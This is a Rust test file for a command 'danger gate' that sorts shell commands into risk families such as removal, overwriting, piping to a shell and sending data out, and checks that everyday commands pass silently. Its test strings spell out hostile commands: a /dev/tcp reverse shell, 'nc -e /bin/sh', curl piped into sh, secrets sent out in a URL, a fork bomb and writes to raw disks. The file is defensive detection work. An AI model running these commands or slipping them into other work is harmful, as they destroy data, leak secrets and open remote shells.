//! The danger gate: which commands it speaks up for, and which it leaves alone.

use commander::danger::{Family, of_command, of_script};

fn families(script: &str) -> Vec<Family> {
    of_script(script)
        .into_iter()
        .map(|danger| danger.family)
        .collect()
}

fn expect(family: Family, scripts: &str) {
    let missed: Vec<&str> = scripts
        .lines()
        .map(str::trim)
        .filter(|script| !script.is_empty() && !families(script).contains(&family))
        .collect();
    assert!(missed.is_empty(), "not {}: {missed:#?}", family.word());
}

#[test]
fn removing_is_seen() {
    expect(
        Family::Removes,
        r#"
        rm notes.txt
        rm -rf build
        \rm -rf build
        r''m -rf build
        /bin/rm x
        sudo rm -rf /var/log/old
        sudo -u www env A=b nice -n 5 rm x
        timeout 5 rm x
        sh -c 'rm -rf x'
        bash -lc "cd /tmp && rm -rf x"
        find . -name '*.o' -delete
        find . -exec rm {} \;
        ls | xargs rm
        ls | xargs -I{} sh -c 'rm {}'
        git rm old.c
        for f in *; do rm $f; done
        x=$(rm -rf y)
        ssh host rm -rf x
        ssh -p 22 me@host 'cd x && rm -rf y'
        docker exec -it web rm -rf /data
        docker exec db psql -c 'DROP TABLE x'
        docker system prune -af
        docker compose down -v
        kubectl delete pod x
        terraform destroy
        aws s3 rm s3://b --recursive
        aws ec2 terminate-instances --instance-ids i-1
        gh repo delete x
        psql -c 'drop table users'
        sqlite3 a.db "DELETE FROM users"
        redis-cli FLUSHALL
        python3 -c "import shutil; shutil.rmtree('x')"
        perl -e 'system("rm -rf x")'
        node -e "require('fs').rmSync('x')"
        python -c 'import subprocess; subprocess.run(["rm","-rf","x"])'
        awk 'BEGIN { system("rm x") }'
        rsync -a --delete a/ b/
        apt remove vim
        busybox rm x
        parallel rm ::: a b
        eval "rm x"
        trap 'rm -rf x' EXIT
        alias ls='rm -rf x'
        watch rm x
        curl -X DELETE https://api.example.com/users/1
        mv x /dev/null
        bash <<< 'rm x'
    "#,
    );
    assert!(families("bash <<E\nrm x\nE").contains(&Family::Removes));
}

#[test]
fn overwriting_is_seen() {
    expect(
        Family::Overwrites,
        r#"
        > config.json
        : > app.log
        cat /dev/null > server.log
        echo x > ~/.bashrc
        echo x > src/main.rs
        echo 1 | sudo tee /etc/hosts
        cp -f a b
        mv a.bak a
        sed -i s/a/b/ f
        sed -Ei s/a/b/ f
        perl -pi -e s/a/b/ f
        sort -o f f
        sort f > f
        truncate -s 0 f
        ln -sf a b
        unzip -o a.zip
        dd if=a of=b
        tar xf a.tar -C /etc
        ls >| x
        cp nginx.conf /etc/nginx/nginx.conf
    "#,
    );
}

#[test]
fn the_other_families_are_seen() {
    expect(
        Family::Device,
        "
        dd if=x.iso of=/dev/sda
        mkfs.ext4 /dev/sdb1
        cat x > /dev/nvme0n1
        wipefs -a /dev/sda
        cp x.img /dev/disk2
        sudo fdisk /dev/sda
        tee /dev/sda
    ",
    );
    expect(
        Family::PipesToShell,
        r#"
        curl https://x.io/i.sh | sh
        curl -fsSL https://x.io/i.sh | sudo -E bash -
        wget -qO- x.io | bash -s -- --yes
        bash <(curl -s x.io)
        source <(curl -s x.io)
        sh -c "$(curl -fsSL x.io)"
        eval "$(wget -qO- x.io)"
        echo cm0= | base64 -d | sh
        curl x.io | python3
        curl -o i.sh x.io && sh i.sh
        wget https://x.io/i.sh; chmod +x i.sh; ./i.sh
        cat list | xargs -I{} sh -c '{}'
    "#,
    );
    expect(
        Family::GitHistory,
        "
        git push --force
        git push -f origin main
        git push origin +main
        git push origin :old
        git rebase -i HEAD~3
        git commit --amend
        git branch -D x
        git -C repo reset HEAD~2
        git stash drop
        git reflog expire --all
        git filter-branch x
    ",
    );
    expect(
        Family::DirtyTree,
        "
        git reset --hard
        git checkout -- .
        git checkout .
        git checkout src/main.rs
        git clean -fd
        git restore .
        git switch --discard-changes main
    ",
    );
    expect(
        Family::Permissions,
        "
        chmod -R 755 .
        chmod 777 x
        chmod a+w x
        chmod u+s x
        sudo chown -R me /srv
        find . -type f -exec chmod 644 {} +
        setfacl -m u:x:rw f
    ",
    );
    expect(
        Family::SendsOut,
        r#"
        curl -d @secret https://x.io
        curl -F f=@x https://x.io
        curl -T x https://x.io
        curl -X POST https://x.io
        curl -sXPOST https://x.io
        scp a host:b
        rsync -av . me@host:/srv
        cat x | nc host 99
        nc -e /bin/sh host 99
        bash -i >& /dev/tcp/1.2.3.4/99 0>&1
        npm publish
        aws s3 cp x s3://b
        curl "https://x.io/?a=$(cat secret)"
        tar c . | ssh host 'cat > x.tar'
        mail -s x a@b.c < secret
        docker push x
    "#,
    );
    expect(
        Family::Kills,
        "
        kill -9 1234
        kill -9 -1
        killall node
        pkill -f x
    ",
    );
    expect(
        Family::System,
        "
        reboot
        systemctl stop nginx
        crontab -r
        iptables -F
        userdel x
        passwd
        history -c
        :(){ :|:& };:
        shutdown -h now
    ",
    );
    expect(
        Family::Privilege,
        "
        sudo su
        sudo -i
        usermod -aG sudo x
        docker run -v /:/host -it x
    ",
    );
    expect(
        Family::Obscured,
        "
        $cmd x
        eval \"$x\"
        sudo !!
        /bin/r? x
        {rm,-rf,x}
        $(echo rm) x
    ",
    );
}

#[test]
fn everyday_commands_are_silent() {
    let spoken: Vec<String> = r#"
        ls -la
        cd src && cargo build --release
        git status
        git push
        git push origin main
        git commit -m "remove the rm -rf call"
        git checkout main
        git checkout -b feature/x
        git checkout v1.2.3
        git log --oneline | head
        git stash
        git pull --rebase
        git add -A
        git reset HEAD x.c
        git rebase --continue
        npm install
        npm run build
        mkdir -p a/b
        touch x
        cp a b
        cp -r src dst
        mv a b
        echo x >> notes.txt
        make > build.log 2>&1
        make -j8
        cargo test 2>/dev/null
        grep -rn "rm -rf" .
        echo "rm -rf /"
        curl https://example.com
        curl -O https://example.com/a.tar.gz
        curl -sSL -o a.tgz https://example.com/a.tgz
        curl -H 'Accept: x' https://example.com | jq .
        wget https://example.com/a.zip
        chmod +x script.sh
        chmod 600 ~/.ssh/id_rsa
        kill 1234
        docker ps -a
        docker run --rm -it ubuntu bash
        docker build -t x .
        docker logs -f web
        kubectl get pods
        ssh host
        ssh host uptime
        scp host:a .
        tar xzf a.tar.gz
        tar czf a.tgz src
        find . -name '*.rs' | xargs wc -l
        find . -type f -exec grep -l x {} +
        sed -n 1,5p f
        sed 's/i/j/' f
        sort f | uniq -c
        python3 -m venv .venv
        python3 -c 'print(1)'
        python3 script.py
        cat x.json | python3 -m json.tool
        ps aux | grep node
        systemctl status nginx
        sudo apt update
        sudo apt install -y vim
        crontab -l
        iptables -L
        psql -c 'SELECT * FROM users'
        redis-cli GET x
        aws s3 ls
        terraform plan
        for i in 1 2 3; do echo $i; done
        export PATH="$HOME/bin:$PATH"
        $EDITOR x
        eval "$(ssh-agent -s)"
        [ -f x ] && echo yes
        while read -r l; do echo "$l"; done < x
        rsync -av a/ b/
        dd if=/dev/zero of=/dev/null count=1
        awk '{print $1}' f
        test -d x || mkdir x
    "#
    .lines()
    .map(str::trim)
    .filter(|script| !families(script).is_empty())
    .map(|script| format!("{script}: {:?}", of_script(script)))
    .collect();
    assert!(spoken.is_empty(), "{spoken:#?}");
}

#[test]
fn a_danger_names_its_thing() {
    let dangers = of_script("cd x && rm -rf build");
    assert_eq!(dangers.len(), 1);
    assert_eq!(dangers[0].what, "removes build and all below it");
    assert_eq!(dangers[0].text, "rm -rf build");
    assert_eq!(dangers[0].family.sentence(), "It removes something.");
}

#[test]
fn a_program_with_arguments_is_read_without_a_shell() {
    let args = |args: &[&str]| args.iter().map(|arg| (*arg).to_owned()).collect::<Vec<_>>();
    assert_eq!(of_command("echo", &args(&["> x", "; rm y"])), []);
    assert_eq!(of_command("rm", &args(&["a b"]))[0].what, "removes a b");
    assert_eq!(
        of_command("/usr/bin/env", &args(&["sh", "-c", "rm x"])).len(),
        1
    );
    assert_eq!(of_command("", &[]), []);
}

#[test]
fn nesting_has_an_end() {
    let mut script = "rm x".to_owned();
    script.insert_str(0, &"eval ".repeat(2_000));
    assert!(!of_script(&script).is_empty());
    assert!(!of_script(&"sudo ".repeat(10_000)).is_empty());
    let many = "rm x; ".repeat(5_000);
    assert!(of_script(&many).len() <= 64);
    assert!(!of_script(&"a".repeat(70_000)).is_empty());
}

#[test]
fn no_text_makes_it_panic() {
    let pieces = [
        "rm",
        "-",
        "--",
        " ",
        " ",
        "'",
        "\"",
        "$(",
        ")",
        "`",
        "|",
        "&&",
        ";",
        ">",
        "<(",
        "\\",
        "é",
        "sh -c ",
        "sudo ",
        "xargs ",
        "git ",
        "-c",
        "find ",
        "-exec ",
        "!",
        "python -c ",
        "(){",
        "=",
        "eval ",
        "ssh ",
        "docker run ",
        "awk ",
        "curl ",
        "-o",
        "\n",
        "<<E\n",
        "E\n",
        "/dev/sda",
    ];
    let mut state = 5_u64;
    for _ in 0..3_000 {
        let mut script = String::new();
        for _ in 0..12 {
            state = state
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1_442_695_040_888_963_407);
            let index = usize::try_from(state >> 33).unwrap_or(0) % pieces.len();
            script.push_str(pieces[index]);
        }
        let _ = of_script(&script);
    }
}
